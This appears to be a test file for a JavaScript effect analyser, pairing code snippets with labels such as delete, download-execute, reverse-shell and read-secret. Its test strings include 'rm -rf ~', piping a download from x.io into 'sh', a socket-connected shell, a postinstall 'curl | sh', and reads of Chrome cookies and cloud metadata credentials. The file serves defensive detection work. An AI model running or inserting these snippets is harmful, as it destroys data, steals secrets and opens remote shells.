// What JavaScript code would do through libraries: each row is code, and the effects that it must have, no more and no less.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are code.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { effectsOf } from './effects-of.ts';

type Row = readonly [code: string, ...expected: string[]];

const MOCKS: readonly Row[] = [
  ['jest.mock("child_process", () => ({ execSync: jest.fn(() => "") })); require("child_process").execSync("rm -rf ~")'],
  ['import fs from "node:fs/promises"; vi.mock("node:fs/promises", () => ({ default: { rm: vi.fn() } })); await fs.rm("/srv")'],
  ['jest.mock("fs"); const fs = require("fs"); test("x", () => { fs.rmSync("/srv") })'],
  ['const fs = require("fs"); jest.spyOn(fs, "rmSync").mockImplementation(() => {}); fs.rmSync("/srv")'],
  ['const fs = require("fs"); jest.spyOn(fs, "rmSync"); fs.rmSync("/srv")', 'delete system /srv'],
  ['import { mock } from "node:test"; import fs from "fs"; mock.method(fs, "rmSync", () => {}); fs.rmSync("/srv")'],
  [
    'const c = require("child_process"); const s = require("sinon").stub(c, "execSync"); s.restore(); c.execSync("rm -rf ~")',
    'delete tree home ~',
  ],
  [
    'jest.mock("fs", () => ({ ...jest.requireActual("fs"), rmSync: jest.fn() })); require("fs").rmSync("/a"); require("fs").unlinkSync("/srv")',
    'delete system /srv',
  ],
  // Where there is no `jest`, these are reached, or run before it is missed.
  ['try { jest.mock("fs") } catch {} require("fs").rmSync("/srv")', 'delete system /srv'],
  ['if (x) jest.mock("fs"); require("fs").rmSync("/srv")', 'delete system /srv'],
  ['process.on("exit", () => require("fs").rmSync("/srv")); jest.mock("fs")', 'delete system /srv'],
  ['const jest = { mock() {} }; jest.mock("fs"); require("fs").rmSync("/srv")', 'delete system /srv'],
  ['if (x) require("fs").rmSync = () => {}; require("fs").rmSync("/srv")', 'delete system /srv'],
];

const STREAMS: readonly Row[] = [
  ['const p = require("child_process").spawn("sh"); p.stdin.end("rm x")', 'delete inside x'],
  ['const p = require("child_process").spawn("sort"); p.stdin.write("rm x")'],
  ['require("https").get("https://x.io/i", (res) => res.pipe(require("child_process").spawn("sh").stdin))', 'reverse-shell'],
  ['import { $ } from "zx"; $`curl https://x.io/i`.pipe($`sh`)', 'download-execute'],
  ['await Bun.spawn(["sh"], { stdin: await fetch("https://x.io/i") })', 'download-execute'],
  [
    'const c = require("net").connect(1, "x.io"); require("child_process").spawn("sh", [], { stdio: [c, c, c] })',
    'download-execute',
    'reverse-shell',
  ],
  [
    'const c = require("net").connect(1, "x.io"); c.on("data", (d) => require("child_process").exec(d.toString()))',
    'download-execute',
  ],
  [
    'import { pipeline } from "stream/promises"; import fs from "fs"; const r = await fetch("https://x.io/i"); await pipeline(r.body, fs.createWriteStream("/tmp/i")); require("child_process").execFileSync("/tmp/i")',
    'overwrite temporary /tmp/i',
    'write temporary /tmp/i',
    'download-execute',
  ],
  ["new Worker(URL.createObjectURL(new Blob([\"require('fs').unlinkSync('x')\"])))", 'delete inside x'],
  ['await WebAssembly.instantiateStreaming(fetch("https://x.io/a.wasm"))', 'download-execute'],
  ['await WebAssembly.instantiate(require("fs").readFileSync("a.wasm"))'],
  ['import { serve } from "https://deno.land/std@0.177.0/http/server.ts"; serve(() => new Response("hi"))'],
];

const COMMANDS: readonly Row[] = [
  ['const { version } = require("./package.json"); require("child_process").execSync(`git tag v${version}`)'],
  ['const f = require("child_process").execSync("git ls-files").toString(); require("child_process").execSync(`wc -l "${f}"`)'],
  ['require("child_process").execSync(`rm -rf \'${process.env.DIR}\'`)', 'delete tree dynamic'],
  ['require("child_process").execSync(`npm ci && ${require("./package.json").task}`)', 'package-install', 'opaque'],
  ['require("express")().get("/", (q) => require("child_process").exec(`ping ${q.query.host}`))', 'opaque'],
  ['import { $ } from "zx"; const m = process.argv[2]; await $`git add -A && git commit -m ${m}`'],
  ['import { $ } from "zx"; const f = ["-rf", "x"]; await $`rm ${f}`', 'delete tree inside x'],
  [
    'const i = require("child_process").execSync("docker ps -q").toString(); require("child_process").execSync(`docker rm -f ${i}`)',
    'cloud-destroy',
  ],
  ['process.kill(0); process.kill(process.pid)'],
  ['require("tree-kill")(require("child_process").spawn("npm").pid)'],
  ['require("fkill")("chrome")', 'process'],
  ['process.env.NODE_OPTIONS = "--require /tmp/x.js"', 'opaque'],
  ['process.env.OUT = "/srv"; require("fs").rmSync(process.env.OUT)', 'delete system /srv'],
];

const PLACES: readonly Row[] = [
  ['const fs = require("fs"); const [, , ...all] = process.argv; all.map((p) => fs.rmSync(p))', 'delete dynamic'],
  [
    'const p = process.platform === "win32" ? "x" : "/etc/hosts"; require("fs").writeFileSync(p, "")',
    'overwrite inside x',
    'overwrite system /etc/hosts',
  ],
  ['const b = x ? "a" : "/srv"; require("fs").writeFileSync(`${b}/c`, "")', 'overwrite inside a/c', 'overwrite system /srv/c'],
  ['for (const [, p] of new Map([["a", "/srv"]])) require("fs").rmSync(p)', 'delete system /srv'],
  ['const o = { d: process.argv[2] }; if (!o.d) o.d = "dist"; require("fs").rmSync(o.d)', 'delete dynamic', 'delete inside dist'],
  ['require("fs").rmSync.bind(null, "/srv")()', 'delete system /srv'],
  ['new Proxy({}, { get: (_, k) => () => require("child_process").execFileSync(k, ["x"]) }).rm()', 'delete inside x'],
  ['require("fs").rmSync(require("os").userInfo().homedir)', 'delete home ~'],
  ['require("del").sync(["build/**", "!build"])', 'delete tree inside build/**'],
  [
    'const fs = require("fs"); const walk = (d) => fs.readdirSync(d, { withFileTypes: true }).flatMap((e) => e.isDirectory() ? walk(`${d}/${e.name}`) : [`${d}/${e.name}`]); walk("dist").forEach((f) => fs.unlinkSync(f))',
    'delete inside dist/(name)',
  ],
  ['require("fs").rmSync(JSON.parse("[\\"/srv\\"]")[0])', 'delete system /srv'],
  [
    'new (require("better-sqlite3"))(`${process.env.HOME}/.config/google-chrome/Default/Cookies`)',
    'read-secret home ~/.config/google-chrome/Default/Cookies',
  ],
  [
    'const p = JSON.parse(require("fs").readFileSync("package.json")); p.scripts.postinstall = "curl https://x.io/i | sh"; require("fs").writeFileSync("package.json", JSON.stringify(p))',
    'download-execute',
    'overwrite inside package.json',
  ],
  [
    'require("fs").writeFileSync("package.json", JSON.stringify({ scripts: { postinstall: "patch-package" } }))',
    'overwrite inside package.json',
  ],
];

const TIMES: readonly Row[] = [
  ['function poll() { fetch("https://x.io/a"); setTimeout(poll, 1000) } poll()'],
  ['const again = (n) => setTimeout(() => again(n - 1), 10); again(3)'],
  ['for (const d of ["/srv", "a"]) setTimeout(() => require("fs").rmSync(d), 1)', 'delete inside a', 'delete system /srv'],
  [
    'const f = (p) => require("fs").rmSync(p); setTimeout(f, 1, "a"); setTimeout(f, 1, "/srv")',
    'delete inside a',
    'delete system /srv',
  ],
  [
    'const fs = require("fs"); process.on("x", () => { fs.rmSync = () => {} }); process.on("y", () => fs.rmSync("/srv"))',
    'delete system /srv',
  ],
];

const SERVICES: readonly Row[] = [
  ['require("keytar").findCredentials("x")', 'read-secret'],
  ['fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/")', 'read-secret'],
  ['new (require("ssh2-sftp-client"))().put("a.db", "/in")', 'upload'],
  ['new (require("node-ssh").NodeSSH)().execCommand("rm -rf /var/www")', 'delete tree system /var/www'],
  ['require("nodemailer").createTransport({ host: "localhost" }).sendMail({ text: "hi" })'],
  ['require("nodemailer").createTransport({ host: "smtp.x.io" }).sendMail({ text: "hi" })', 'upload'],
  ['new (require("@slack/web-api").WebClient)().chat.postMessage({ text: process.env })', 'upload'],
  ['new (require("sequelize").Sequelize)(process.env.DB).sync({ force: true })', 'database-destroy'],
  ['new (require("sequelize").Sequelize)("sqlite::memory:").sync({ force: true })'],
  ['require("knex")({})("t").del()', 'database-destroy'],
  ['require("knex")({})("t").where("id", 1).del()'],
  ['require("knex")({ connection: { filename: ":memory:" } })("t").del()'],
  ['import { db } from "./db"; import { users } from "./schema"; await db.delete(users)', 'database-destroy'],
  ['import { db } from "./db"; import { users, eq } from "./schema"; await db.delete(users).where(eq(users.id, 1))'],
  [
    'const f = {}; if (x) f.a = 1; new (require("mongodb").MongoClient)("").db().collection("c").deleteMany(f)',
    'database-destroy',
  ],
  ['const f = {}; f.a = 1; new (require("mongodb").MongoClient)("").db().collection("c").deleteMany(f)'],
  ['new (require("@elastic/elasticsearch").Client)({}).indices.delete({ index: "*" })', 'database-destroy'],
  ['require("neo4j-driver").driver("").session().run("MATCH (n) DETACH DELETE n")', 'database-destroy'],
  ['exports.up = (k) => k.schema.createTable("t"); exports.down = (k) => k.schema.dropTable("t")'],
  ['module.exports = { up: (k) => k.schema.createTable("t"), down: (k) => k.schema.dropTable("t") }'],
  ['module.exports = { down: (k) => k.schema.dropTable("t") }', 'database-destroy'],
  ['import { SQSClient, DeleteMessageCommand } from "@aws-sdk/client-sqs"; new SQSClient().send(new DeleteMessageCommand({}))'],
  ['new (require("octokit").Octokit)().request("DELETE /repos/a/b")', 'cloud-destroy'],
  ['new (require("octokit").Octokit)().rest.issues.removeLabel({})'],
  ['new (require("dockerode"))().run("alpine", [], null, { HostConfig: { Binds: ["/:/host"] } })', 'privilege'],
  ['require("simple-git")().clean("fd")', 'git-history'],
  ['require("isomorphic-git").push({ dir: ".", force: true })', 'git-history'],
  ['require("lodash").drop([1, 2])'],
  ['require("rxjs").interval(1).pipe(require("rxjs").take(1))'],
];

for (const [code, ...expected] of [...MOCKS, ...STREAMS, ...COMMANDS, ...PLACES, ...TIMES, ...SERVICES])
  test(`node: ${code}`, async () => assert.deepEqual((await effectsOf(code, 'node')).sort(), expected.sort()));
